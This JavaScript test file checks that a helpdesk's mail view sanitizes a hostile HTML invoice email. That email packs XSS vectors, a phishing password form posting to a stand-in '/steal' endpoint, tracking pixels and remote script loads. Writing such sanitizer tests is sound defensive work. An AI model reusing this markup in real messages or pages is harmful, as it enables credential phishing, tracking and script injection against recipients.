/** A mail that tries everything: it may be read, it may not run, and it may not tell anybody that it was read. */
import assert from 'node:assert/strict';
import { compose, deliver } from '../parts/post.mjs';
import { until } from '../parts/until.mjs';
import { mailbox } from '../parts/world.mjs';

const pixel = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

const hostile = (from) => `<html><head>
  <meta http-equiv="refresh" content="0;url=${from}/refresh"><base href="${from}/base/"><link rel="stylesheet" href="${from}/sheet.css">
  <style>@import url(${from}/import.css); p { background: url(${from}/sheet.png) } body { position: fixed; inset: 0 }</style>
  <script>top.hacked = 'script'</script><script src="${from}/evil.js"></script></head>
  <body onload="top.hacked = 'onload'"><p>Счёт во вложении, <b>оплатите</b> сегодня.</p>
  <img src="x" onerror="top.hacked = 'onerror'"><img src="${from}/pixel.png" width="40" height="40" alt="Логотип"><img srcset="${from}/set.png 2x">
  <svg onload="top.hacked = 'svg'"><image href="${from}/svg.png"/><script>top.hacked = 'svg script'</script></svg>
  <form action="${from}/steal"><input name="password" autofocus onfocus="top.hacked = 'focus'"><button>Войти</button></form>
  <a href="javascript:top.hacked = 'link'">Открыть счёт</a> <a href="https://bank.test/invoice">Настоящая ссылка</a>
  <iframe src="${from}/frame"></iframe><object data="${from}/object"></object><embed src="${from}/embed"><video src="${from}/video" autoplay></video>
  <div style="background-image: url(${from}/style.png); position: fixed; inset: 0; z-index: 9999">поверх всего</div>
  <table background="${from}/table.png"><tr><td>ячейка</td></tr></table></body></html>`;

export default {
  async 'a hostile HTML mail runs nothing and asks nobody for anything until its pictures are asked for'({ world, stage, desk, api }) {
    const { sites } = world;
    const tracker = sites.origin('tracker.test');
    sites.put('tracker.test', '/pixel.png', pixel, 'image/png');
    const subject = 'Срочно оплатите счёт';
    await deliver(desk.smtpPort, compose({ from: 'mallory@evil.test', to: mailbox, subject, text: 'Счёт во вложении.', html: hostile(tracker) }));
    const ticket = await until('the ticket of the mail', async () => (await api.admin('list_tickets', { search: 'оплатите счёт' })).tickets.find((x) => x.subject === subject));

    const page = await stage.operator('aigerim');
    await page.goto(`${desk.origin}/tenant.html#/t/${ticket.id}`);
    const frame = page.frameLocator('iframe[title="Письмо"]');
    await frame.getByText('оплатите').waitFor();
    await frame.getByText('Открыть счёт').click();
    await page.keyboard.press('Escape');
    assert.equal(await page.evaluate(() => window.hacked), undefined, 'nothing of the mail was run');
    const left = await frame.locator('body').evaluate((body) => [...body.ownerDocument.querySelectorAll('script, style, form, input, iframe, object, embed, link, base:not([target]), meta[http-equiv=refresh], svg, video, [onerror], [onload], [href^="javascript:"]')].map((node) => node.tagName));
    assert.deepEqual(left, []);
    assert.equal(await frame.getByText('Настоящая ссылка').getAttribute('rel'), 'noopener noreferrer');
    const box = await page.locator('iframe[title="Письмо"]').boundingBox();
    assert.ok(box.height < 600, `the mail keeps to its place (${box.height} px high)`);
    await stage.shot(page, 'mail-hostile');
    assert.deepEqual(sites.asked.filter((x) => x.startsWith('tracker.test')), [], 'nobody was asked for anything');

    stage.allowOrigin(tracker);
    await page.getByRole('button', { name: /картин.+ из сети/ }).click();
    await until('the picture is asked for', () => sites.asked.includes('tracker.test/pixel.png'));
    await frame.locator('img[alt="Логотип"]').evaluate((img) => img.complete || new Promise((resolve) => { img.onload = resolve; }));
    assert.equal(await frame.locator('img[alt="Логотип"]').evaluate((img) => img.naturalWidth), 1);
    assert.deepEqual(sites.asked.filter((x) => x.startsWith('tracker.test')), ['tracker.test/pixel.png'], 'only pictures are let in');
    assert.equal(await page.evaluate(() => window.hacked), undefined);
  },
};
